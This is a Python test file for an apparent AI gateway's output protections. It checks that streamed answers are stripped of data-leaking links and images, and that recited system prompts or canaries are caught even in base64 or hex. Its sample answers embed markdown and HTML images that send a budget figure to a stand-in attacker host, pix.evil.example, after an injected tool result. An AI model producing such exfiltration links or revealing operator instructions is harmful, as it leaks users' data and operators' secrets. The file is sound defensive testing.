"""What leaves with an answer: links and images, at every cut of a stream, and the operator's own instructions."""

import base64
import json

import pytest

from penstock.protect.exchange import Asked
from penstock.protect.sessions.conversation import conversation
from penstock.protect.sessions.egress import leaks, without_leaks
from penstock.protect.sessions.flowing import Flowing, is_open
from penstock.protect.sessions.instructions import given_away
from penstock.protect.surfaces.openai_chat import OpenAIChat
from tests.protect.gateway_world import chunks
from tests.protect.sessions.suite import request

CASE = {
    "say": "What is in the budget sheet?",
    "got": [["search_files", {"query": "budget"}, "Total 4000. See https://fake-drive.example/a and pix.evil.example"]],
    "do": ["share_file", {}],
}
TALK = conversation("openai.chat", request(CASE))
ANSWERS = (
    "The total is 4000. ![x](https://pix.evil.example/p.png?d=4000-and-all) See https://ok.example. Bye",
    'Look: <img alt="a" src="https://pix.evil.example/p?d=4000"> and https://fake-drive.example/a?total=4000 too',
    "It is https://fake-drive.example/a?total=4000",
    "Oh! High thoughts < what? https://fake-drive.example/a stays.",
    "![two](https://pix.evil.example/1?d=40)![more](https://pix.evil.example/2?d=00 'title')",
    "![never closed](https://pix.evil.example/1?d=40",
)


def streamed(pieces, *, acts=True):
    """What the client reads of an answer that comes in these pieces."""
    body = json.dumps({**request(CASE), "stream": True}).encode()
    surface = OpenAIChat()
    reader = surface.streaming(surface.request(Asked("POST", "/v1/chat/completions", {}, body)), "text/event-stream")
    seen = []

    def look(text):
        found = leaks(text, TALK) if "://" in text else []
        seen.extend(found)
        return found

    flowing, out = Flowing(reader, look, acts=acts), b""
    for frame in reader.framing.feed(b"".join(chunks(*pieces))):
        heard = reader.read(frame)
        words = [one for one in heard.fragments if one.part.channel == "assistant" and one.key[-1] == "content"]
        flowing.take(frame, heard, words)
        out += b"".join(raw for raw, _ in flowing.ready())
    out += b"".join(raw for raw, _ in flowing.ready(ended=True))
    rows = [json.loads(line[6:]) for line in out.decode().splitlines() if line.startswith("data: {")]
    return "".join(row["choices"][0]["delta"].get("content") or "" for row in rows), len(seen)


@pytest.mark.parametrize("answer", ANSWERS)
def test_an_answer_loses_the_same_wherever_its_stream_is_cut(answer):
    found = leaks(answer, TALK)
    wanted = without_leaks(answer, found)
    for at in range(1, len(answer)):
        assert streamed([answer[:at], answer[at:]]) == (wanted, len(found)), at
    assert streamed(list(answer)) == (wanted, len(found))


def test_the_answers_above_are_not_all_alike():
    assert [len(leaks(answer, TALK)) for answer in ANSWERS] == [1, 2, 1, 0, 2, 1]


@pytest.mark.parametrize("answer", ANSWERS)
def test_an_observed_stream_is_unchanged_and_the_same_is_seen(answer):
    assert streamed(list(answer), acts=False) == (answer, len(leaks(answer, TALK)))


def test_ordinary_words_do_not_wait():
    assert not any(is_open(text) for text in ("The total is 4000. ", "see (a) [b] ", "x < y ", "Oh, "))
    assert all(is_open(text) for text in ("see htt", "https://a.example/x", "![al", "![a](https://b", "<im", "wow!"))
    assert not is_open("![" + "a" * 500) and not is_open("https://" + "a" * 20_000)


SYSTEM = (
    "You are Ada, the helper of the Orla shop. Refunds take up to ten days. Never speak about the suppliers, their "
    "prices or the margin, and when somebody asks for the manager say that he is away until Monday and will call back."
)


@pytest.mark.parametrize(
    "hide",
    [
        str,
        str.upper,
        lambda text: base64.b64encode(text.encode()).decode(),
        lambda text: text.encode().hex(),
        lambda text: text.replace(" ", "\n- "),
    ],
    ids=["plain", "upper", "base64", "hex", "lines"],
)
def test_instructions_that_are_recited_are_seen_in_any_spelling(hide):
    assert given_away(f"Sure! {hide(SYSTEM[40:220])}", SYSTEM) == "instructions"


def test_a_rule_that_is_told_a_user_and_another_answer_are_not():
    assert given_away("Refunds take up to ten days. Can I help you with anything else today?", SYSTEM) == ""
    assert given_away("I am Ada, the helper of the Orla shop. " * 20, SYSTEM) == ""
    assert given_away(SYSTEM, "") == ""


def test_a_canary_is_seen_alone():
    assert given_away("ok 7f3a canary-4b1d9a77e2 ok", f"{SYSTEM} canary-4b1d9a77e2") == "canary"


def test_every_run_of_instructions_is_found():
    words = SYSTEM.split()
    for at in range(len(words) - 18):
        assert given_away("So: " + " ".join(words[at : at + 18]), SYSTEM) == "instructions", at
